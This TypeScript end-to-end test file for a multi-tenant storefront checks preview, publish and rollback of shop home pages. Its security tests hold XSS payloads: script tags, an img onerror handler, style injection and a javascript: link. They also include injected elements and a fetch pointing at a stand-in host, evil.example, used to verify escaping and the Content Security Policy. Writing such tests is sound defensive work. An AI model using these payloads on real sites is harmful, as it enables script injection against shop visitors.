import { mkdirSync } from "node:fs"
import path from "node:path"
import { type PageKind, resolveTheme } from "@fangshi/contracts"
import { type HostProcess, ShopClient, type TestDatabase, asOwner, cloneDatabase, startDemoHost } from "@fangshi/testing"
import { launchChromium } from "@fangshi/testing/src/chromium"
import { demoTenant } from "@fangshi/testing/src/demo-tenant"
import { manifest as basic } from "@fangshi/theme-default/src/manifest"
import { manifest as market } from "@fangshi/theme-market/src/manifest"
import { manifest as salon } from "@fangshi/theme-salon/src/manifest"
import type { Browser, BrowserContextOptions, Page } from "playwright-core"

const SHOTS = path.resolve(__dirname, "../../..", ".data/screenshots")
const HOME = "/admin/storefront/pages/home/default"

let database: TestDatabase
let host: HostProcess
let browser: Browser

beforeAll(async () => {
  mkdirSync(SHOTS, { recursive: true })
  database = await cloneDatabase("demoTemplate")
  host = await startDemoHost(database)
  browser = await launchChromium()
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await host?.kill()
  await database?.drop()
})

const owner = async (id: string) => new ShopClient(host, await demoTenant(host, id))

async function visit(id: string, options: BrowserContextOptions, english = false) {
  const context = await browser.newContext(options)
  const page = await context.newPage()
  const noise: string[] = []
  page.on("console", (message) => message.type() === "error" && noise.push(message.text()))
  page.on("pageerror", (error) => noise.push(error.message))
  const url = (to: string) => `http://${id}.localhost:${new URL(host.url).port}${to}`
  await page.goto(url("/"))
  if (english) {
    await page.getByRole("button", { name: "Switch to English" }).click()
    await page.waitForSelector("html[lang=en]")
  }
  return { page, noise, go: (to: string) => page.goto(url(to)), close: () => context.close() }
}

const notice = (zh: string, en: string) => ({ document: { sections: [{ id: "news", type: "notice", settings: { text: { "zh-CN": zh, en } } }, { id: "goods", type: "product-grid", settings: { count: 4 } }] } })
/** What the page says, but for clocks: they run on. */
const textOf = (page: Page) =>
  page.locator("main").evaluate((main: HTMLElement) => {
    main.querySelectorAll<HTMLElement>("[role=timer]").forEach((clock) => (clock.style.display = "none"))
    return main.innerText
  })

describe.each([["market", "community", "bonded"], ["salon", "bonded", "community"]])("a page in the theme %s", (_theme, id, neighbour) => {
  it.each([
    ["in Chinese on a phone", { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true }, false],
    ["in English on a desktop", { viewport: { width: 1440, height: 900 } }, true],
  ] as const)("%s is a draft for who has its link, then everybody's, and by one step back what it was", async (_device, options, english) => {
    const [shop, visitor, preview, other] = [await owner(id), await visit(id, options, english), await visit(id, options, english), await visit(neighbour, options, english)]
    const word = (n: number) => (english ? `Open on Sunday ${n}` : `周日照常营业 ${n}`)
    const save = async (n: number) => (await shop.post<{ page: { preview_token: string } }>(HOME, notice(`周日照常营业 ${n}`, `Open on Sunday ${n}`))).page.preview_token
    const seen = async () => {
      await visitor.go("/")
      return textOf(visitor.page)
    }
    const before = await seen()
    await preview.go(`/?preview=${await save(1)}`)
    expect(await textOf(preview.page)).toContain(word(1))
    expect(await seen()).toBe(before)
    await shop.post(`${HOME}/publish`, {})
    expect(await seen()).toContain(word(1))
    expect(await visitor.page.locator(".fs-card").count()).toBe(4)
    await visitor.page.screenshot({ path: path.join(SHOTS, `published-${id}-${english ? "en" : "zh"}.png`) })
    await save(2)
    await shop.post(`${HOME}/publish`, {})
    expect(await seen()).toContain(word(2))
    await shop.post(`${HOME}/rollback`, {})
    expect(await seen()).toContain(word(1))
    await shop.post(`${HOME}/rollback`, {})
    expect(await seen()).toBe(before)
    await other.go("/")
    expect(await textOf(other.page)).not.toContain(english ? "Open on Sunday" : "周日照常营业")
    expect([visitor, preview, other].flatMap(({ noise }) => noise)).toEqual([])
    for (const each of [visitor, preview, other]) await each.close()
  })
})

const THEMES = { default: basic, market, salon }
const ATTACK = `"'><script>window.taken=1</script><img src=x onerror="window.taken=1"><style>body{display:none}</style>`

/** Every section of a theme that may stand on the home page, each of its texts an attack. */
function hostileSections(name: "market" | "salon") {
  const theme = resolveTheme(name, (each) => THEMES[each as keyof typeof THEMES])
  const kind: PageKind = "home"
  return Object.entries(theme.sections).flatMap(([type, { pages, settings }], i) => {
    if (!pages.includes(kind)) return []
    const texts = Object.entries(settings.parse({})).filter(([, value]) => typeof value === "object" && value !== null && "zh-CN" in value)
    const evil = Object.fromEntries(texts.map(([key]) => [key, settings.safeParse({ [key]: { "zh-CN": ATTACK, en: ATTACK } }).success ? { "zh-CN": ATTACK, en: ATTACK } : { "zh-CN": "<b onclick=1>", en: "<b onclick=1>" }]))
    return [{ id: `s-${i}`, type, settings: evil }]
  })
}

describe("a hostile shop", () => {
  it.each([["market", "community"], ["salon", "bonded"]] as const)("in the theme %s that writes a script into every text gets the text shown, and nothing runs", async (theme, id) => {
    const shop = await owner(id)
    const sections = hostileSections(theme)
    expect(sections.length).toBeGreaterThan(5)
    await shop.post(HOME, { document: { sections } })
    await shop.post(`${HOME}/publish`, {})
    const { page, noise, go, close } = await visit(id, { viewport: { width: 390, height: 844 } })
    await go("/")
    await page.waitForLoadState("networkidle")
    expect(await textOf(page)).toContain("window.taken=1")
    expect(await page.evaluate(() => ({ taken: "taken" in window, added: document.querySelectorAll("main script, main style, [onerror], [onclick], img[src=x]").length, shown: getComputedStyle(document.body).display }))).toEqual({ taken: false, added: 0, shown: "block" })
    expect(noise).toEqual([])
    await shop.ok({ method: "DELETE", path: HOME })
    await close()
  })

  it("cannot get past the policy either: a script, a picture or a style that came into its page all the same is not run, not fetched, not applied", async () => {
    const { page, close } = await visit("community", { viewport: { width: 390, height: 844 } })
    await page.waitForLoadState("networkidle")
    await page.evaluate(() => {
      const refused: string[] = []
      Object.assign(window, { refused })
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective))
      const box = document.createElement("div")
      box.innerHTML = `<img src="data:," onerror="window.taken=1"><a href="javascript:window.taken=1">x</a><iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>`
      const script = Object.assign(document.createElement("script"), { textContent: "window.taken=1" })
      const foreign = Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })
      document.body.append(box, script, foreign)
      document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" }))
      box.querySelector("a")?.click()
      void fetch("https://evil.example/", { mode: "no-cors" }).catch(() => undefined)
    })
    await page.waitForFunction((all) => all.every((each) => (window as unknown as { refused: string[] }).refused.includes(each)), ["base-uri", "connect-src", "frame-src", "object-src", "script-src-attr", "script-src-elem"], { timeout: 10_000 })
    expect(await page.evaluate(() => "taken" in window)).toBe(false)
    await close()
  })

  it("that got a link and a huge setting past the API has its page without those sections, and with the others", async () => {
    const shop = await owner("community")
    await shop.post(HOME, notice("好消息", "Good news"))
    await shop.post(`${HOME}/publish`, {})
    const evil = [{ id: "a", type: "notice", settings: { text: { "zh-CN": "点我", en: "Click" }, link: "javascript:alert(1)" } }, { id: "b", type: "notice", settings: { text: { "zh-CN": "大".repeat(400_000), en: "" } } }]
    await asOwner(database.ownerUrl, `update storefront_page_revision set document = jsonb_set(document, '{sections}', $1::jsonb || (document->'sections')) where tenant_id = 'community'`, [JSON.stringify(evil)])
    await shop.post("/admin/storefront/theme", { name: "market" })
    const { page, noise, close } = await visit("community", { viewport: { width: 390, height: 844 } })
    const text = await textOf(page)
    expect([text.includes("好消息"), text.includes("点我"), text.includes("大大大"), await page.locator('a[href^="javascript"]').count(), noise]).toEqual([true, false, false, 0, []])
    await shop.ok({ method: "DELETE", path: HOME })
    await close()
  })
})
